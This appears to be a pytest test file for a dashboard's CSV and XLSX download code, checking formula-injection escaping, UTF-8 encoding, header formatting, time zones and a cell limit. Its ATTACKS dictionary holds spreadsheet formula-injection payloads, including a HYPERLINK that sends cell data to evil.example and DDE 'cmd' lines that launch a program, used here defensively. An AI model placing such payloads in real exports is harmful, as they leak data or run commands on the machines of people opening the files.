"""Downloads: CSV that Excel reads as UTF-8, XLSX with a header and an About sheet, and no
cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date, time, timedelta, timezone

import numpy as np
import openpyxl
import pandas as pd
import pytest

from dashboard.explore.downloads import (
    FORMULA_TRIGGERS,
    XLSX_CELL_CAP,
    TooManyCells,
    csv_bytes,
    neutralise,
    xlsx_bytes,
    xlsx_refusal,
)

ATTACKS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def read_xlsx(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_every_trigger_character_is_covered():
    assert set(FORMULA_TRIGGERS) == set(ATTACKS)


@pytest.mark.parametrize("trigger", list(ATTACKS), ids=repr)
def test_formula_injection_comes_back_from_the_csv_as_inert_text(trigger: str):
    attack = ATTACKS[trigger]
    frame = pd.DataFrame({attack: [attack], "safe": ["a-b"]})
    header, row = read_csv(csv_bytes(frame))
    assert header == ["'" + attack, "safe"]
    assert row == ["'" + attack, "a-b"]


@pytest.mark.parametrize("trigger", list(ATTACKS), ids=repr)
def test_formula_injection_comes_back_from_the_xlsx_as_inert_text(trigger: str):
    attack = ATTACKS[trigger]
    frame = pd.DataFrame({attack: [attack], "safe": ["a-b"]})
    book = read_xlsx(xlsx_bytes(frame, [("Search", attack)]))
    header, row = book["Data"].iter_rows(min_row=1, max_row=2)
    for cell in (header[0], row[0], book["About"]["B2"]):
        assert cell.data_type == "s"  # a string, never "f" (formula)
        assert cell.value == "'" + attack
    assert row[1].value == "a-b"


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1", "'=1"), ("a=1", "a=1"), ("", ""), (-3, -3), (None, None), (" =1", " =1")],
)
def test_neutralise_quotes_only_text_that_starts_with_a_trigger(value, expected):
    assert neutralise(value) == expected


def test_csv_is_utf8_with_a_bom_and_keeps_accents_and_empty_cells():
    frame = pd.DataFrame({"Ville": ["Genève", None], "Année": [2024, 2025]})
    assert read_csv(csv_bytes(frame)) == [["Ville", "Année"], ["Genève", "2024"], ["", "2025"]]


def test_xlsx_has_a_bold_frozen_header_fitted_widths_and_an_about_sheet():
    frame = pd.DataFrame(
        {
            "Name": ["A long event name that needs a wide column", "B"],
            "Started": [date(2024, 6, 14), None],
            "Value": [70, -3],
        }
    )
    book = read_xlsx(xlsx_bytes(frame, [("Table", "Events"), ("Data as of", "27 November")]))
    assert book.sheetnames == ["Data", "About"]
    data = book["Data"]
    assert [c.value for c in data[1]] == ["Name", "Started", "Value"]
    assert all(c.font.bold for c in data[1])
    assert data.freeze_panes == "A2"
    assert data["C3"].value == -3 and data["C3"].data_type == "n"  # numbers stay numbers
    assert data.column_dimensions["A"].width > data.column_dimensions["C"].width
    assert [[c.value for c in r] for r in book["About"].iter_rows()] == [
        ["About", "Value"],
        ["Table", "Events"],
        ["Data as of", "27 November"],
    ]


def test_xlsx_holds_values_openpyxl_cannot_write_directly():
    frame = pd.DataFrame(
        {"when": [pd.Timestamp("2025-01-01T10:00", tz="UTC")], "bad": ["a\x00b\x1fc"]}
    )
    row = list(read_xlsx(xlsx_bytes(frame, []))["Data"].iter_rows(min_row=2, values_only=True))
    assert row == [("2025-01-01T10:00:00+00:00", "abc")]


def test_a_time_with_a_utc_offset_downloads_as_text_that_keeps_the_offset():
    # DuckDB's TIMETZ arrives as a time with tzinfo, which openpyxl refuses (a TypeError).
    offsets = [timezone(timedelta(hours=2)), timezone(-timedelta(hours=5, minutes=30))]
    frame = pd.DataFrame({"at": [time(10, 30, tzinfo=offsets[0]), time(8, tzinfo=offsets[1])]})
    rows = list(read_xlsx(xlsx_bytes(frame, []))["Data"].iter_rows(values_only=True))
    assert rows == [("at",), ("10:30:00+02:00",), ("08:00:00-05:30",)]


def test_an_xlsx_of_more_than_a_million_cells_is_refused_with_a_clear_message():
    at_cap = pd.DataFrame(np.zeros((XLSX_CELL_CAP // 1000, 1000), dtype="int8"))
    assert xlsx_refusal(at_cap) is None
    over = pd.DataFrame(np.zeros((XLSX_CELL_CAP // 1000 + 1, 1000), dtype="int8"))
    message = xlsx_refusal(over)
    assert message == (
        "XLSX download is limited to 1,000,000 cells and this table has 1,001,000: "
        "download the CSV, or narrow the query (fewer columns or a LIMIT)."
    )
    with pytest.raises(TooManyCells, match="limited to 1,000,000 cells"):
        xlsx_bytes(over, [])
